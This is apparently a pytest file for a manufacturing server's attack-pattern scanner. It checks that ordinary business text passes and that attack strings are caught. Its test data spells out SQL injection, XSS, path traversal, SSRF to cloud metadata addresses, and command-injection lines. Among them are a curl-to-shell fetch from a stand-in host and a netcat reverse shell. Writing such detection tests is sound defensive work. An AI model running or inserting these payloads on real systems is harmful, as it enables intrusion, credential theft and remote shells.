"""The attack patterns: silent on ordinary manufacturing text, loud on each attack class, also when encoded."""

from __future__ import annotations

import pytest

from sentia_server.security.threats.patterns import RULE_NAMES, Severity, ThreatKind, scan, ssrf_matches, variants

# Product names, notes, addresses, SKUs, supplier and customer names as they occur in the business systems: none of
# them may raise an event.
LEGITIMATE = [
    "Execute-Pro",
    "Execute-Pro 2000 torque driver",
    "note -- check with QA before release",
    "Rework needed -- see batch 12",
    "O'Brien",
    "O'Brien & Daughters Ltd",
    "Smith & Sons <Ltd>",
    "Smith & Sons",
    "select a supplier for the Q3 resin order",
    "Select the best supplier from the list where lead time < 10 days",
    "drop ship",
    "Drop ship from the Leeds warehouse; update the set of bolts next week",
    "A/B-12",
    "SKU A/B-12/XL",
    "1 Union St.",
    "Union Street Warehouse, 14 Union Rd",
    "Unit 4, Trading Estate, Bolton BL1 2AB",
    "Bolt M8 x 1.25 - zinc plated",
    'Pipe 10" or 12" diameter',
    'Widget 10" x 5"',
    "Tools & ID badges",
    "R&D; more later",
    "Batch #12; rework",
    "It's done; ship it",
    "Customer's PO #4471 -- urgent",
    "20% off for orders over 500 units",
    "Discount 10%-15% depending on volume",
    "Lot 5..8 inspected",
    "Waiting...",
    "see https://acme.myshopify.com/products/widget",
    "Spec sheet: https://www.example.com/specs/ab-12.pdf",
    "Price: $(500) credit note",  # accounting negative, no command
    "Tolerance +/- 0.05 mm",
    "Temperature 180°C ± 5",
    "Line 3 | Shift B | Operator 17",
    "Ship via DHL | tracking to follow",
    "Cat 5e cable, 305 m reel",
    "cat litter trays (blue)",
    "Touch-up paint, RAL 9005",
    "Find the root cause; head of QA to sign off",
    "Sleep mode timer set to 5 minutes",
    "Order 1-2-3",
    "Contains: water, glycerine, sodium benzoate",
    "Delete the old BOM revision once rev C is approved",
    "Insert gasket before closing the housing",
    "Truncated cone, 45° taper",
    "Where-used report for part 7781",
    "Grant application for the new CNC machine",
    "Alter the drawing: hole Ø8 → Ø10",
    "Create work order WO-2026-0042",
    "Exec summary attached",
    "Ping the supplier about the late delivery",
    "Java beans 1 kg, script labels in French",
    "Express delivery: 2 days",
    "Expression of interest from Müller GmbH",
    "Size: S/M/L/XL",
    "Invoice INV-0042 for 1,250.00 GBP",
    "Deliver to 10.5 km marker, North road",
    "Firmware v1.2.3.4 installed",
    "Self-tapping screws ./ washers",  # punctuation, not a path
    "Email: orders@acme-tools.co.uk",
    "Use `SKU-12` as the parent product",
    "Sales & Marketing; Finance & Ops",
    "Café crème colour, NFKC \ufb01ne finish",
    "<p>Stainless steel <strong>kettle</strong>, 1.7 l</p>",
    '<img src="https://cdn.shopify.com/s/files/kettle.png" alt="Kettle">',
    "http://10th-avenue-supplies.com/catalogue",
    "Samples from the 169 and 254 lines",
]

ATTACKS = {
    ThreatKind.SQL_INJECTION: [
        "1' OR '1'='1",
        "' or 1=1--",
        "admin'--",
        "1 OR 1=1",
        "1 UNION SELECT username, password FROM users",
        "x' UNION ALL SELECT NULL,NULL--",
        "UNION/**/SELECT 1",
        "x'; DROP TABLE users;--",
        "1; DELETE FROM orders",
        "1' AND SLEEP(5)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
        "%27%20OR%20%271%27%3D%271",
    ],
    ThreatKind.XSS: [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '" onmouseover="alert(1)',
        "javascript:alert(document.cookie)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<object data=x>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "width: expression(alert(1))",
    ],
    ThreatKind.PATH_TRAVERSAL: [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fshadow",
        "%252e%252e%252f",
        "..%c0%af..%c0%afetc",
        "/proc/self/environ",
        "report.pdf%00.png",
        "..",
    ],
    ThreatKind.COMMAND_INJECTION: [
        "; cat /etc/passwd",
        "| whoami",
        "&& id",
        "$(id)",
        "`uname -a`",
        "x; curl http://evil.example/x.sh | sh",
        "a && wget 203.0.113.5/payload",
        "; sleep 10",
        "| bash -c 'id'",
        "; /bin/sh -i",
        "nc -e /bin/bash 203.0.113.5 4444",
        "${IFS}cat${IFS}/etc/passwd",
    ],
    ThreatKind.SSRF: [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_INFO",
        "dict://localhost:11211/stats",
        "http://127.0.0.1:8080/admin",
        "http://127.1/",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "https://10.0.0.5/internal",
        "http://192.168.1.1/setup",
        "http://localhost/",
        "http://admin.internal/",
        "http://127.0.0.1.nip.io/",
        "http://user@169.254.169.254/",
        "http://[fd00:ec2::254]/latest",
    ],
}


def test_the_legitimate_corpus_is_large_enough():
    assert len(LEGITIMATE) >= 50
    assert len(set(LEGITIMATE)) == len(LEGITIMATE)


@pytest.mark.parametrize("text", LEGITIMATE)
def test_legitimate_manufacturing_text_matches_nothing(text: str):
    assert scan(text) == []


@pytest.mark.parametrize(
    ("kind", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts], ids=lambda value: str(value)
)
def test_each_attack_is_recognised_as_its_kind(kind: ThreatKind, text: str):
    kinds = {match.kind for match in scan(text)}
    assert kind in kinds, f"{text!r} matched {kinds}"


def test_matches_name_the_rule_and_a_severity_never_the_text():
    [match] = scan("1 UNION SELECT password FROM users")
    assert (match.kind, match.pattern, match.severity) == (ThreatKind.SQL_INJECTION, "sqli.union_select", Severity.HIGH)
    assert match.pattern in RULE_NAMES


def test_a_value_matching_several_rules_reports_each_once():
    patterns = [match.pattern for match in scan("../../etc/passwd ../../etc/passwd")]
    assert sorted(patterns) == ["traversal.dot_dot", "traversal.sensitive_file"]


def test_variants_decode_url_twice_html_entities_and_unicode():
    assert variants("plain") == ["plain"]
    assert variants("%253Cb%253E") == ["%253Cb%253E", "%3Cb%3E", "<b>"]
    assert variants("&lt;b&gt;")[-1] == "<b>"
    assert variants("\uff1cb\uff1e")[-1] == "<b>"


@pytest.mark.parametrize(
    ("text", "pattern"),
    [
        ("http://169.254.169.254/", "ssrf.metadata_address"),
        ("http://metadata/", "ssrf.metadata_address"),
        ("http://[::ffff:169.254.169.254]/", "ssrf.metadata_address"),
        ("http://localhost:3000/", "ssrf.internal_host"),
        ("http://printer.local/", "ssrf.internal_host"),
        ("http://0177.0.0.1/", "ssrf.internal_address"),
        ("http://0.0.0.0/", "ssrf.internal_address"),
        ("http://10-0-0-1.example.net/", "ssrf.internal_address"),
    ],
)
def test_internal_url_hosts(text: str, pattern: str):
    assert [match.pattern for match in ssrf_matches(text)] == [pattern]


@pytest.mark.parametrize(
    "text",
    [
        "https://acme.myshopify.com/admin",
        "http://8.8.8.8/",
        "http://1-2-3-4.example.com/",  # an embedded public address
        "https://cafe.be/",  # hex letters, no digits
        "https://abc1.de/",  # hex letters and a digit, not an address
        "http://[2001:db8::zz]/",  # not an address at all
    ],
)
def test_public_url_hosts_are_not_ssrf(text: str):
    assert list(ssrf_matches(text)) == []


def test_long_input_is_matched_in_linear_time():
    import time

    started = time.perf_counter()
    scan("a' " * 20_000 + "<" * 20_000 + "../" * 5_000)
    assert time.perf_counter() - started < 2.0
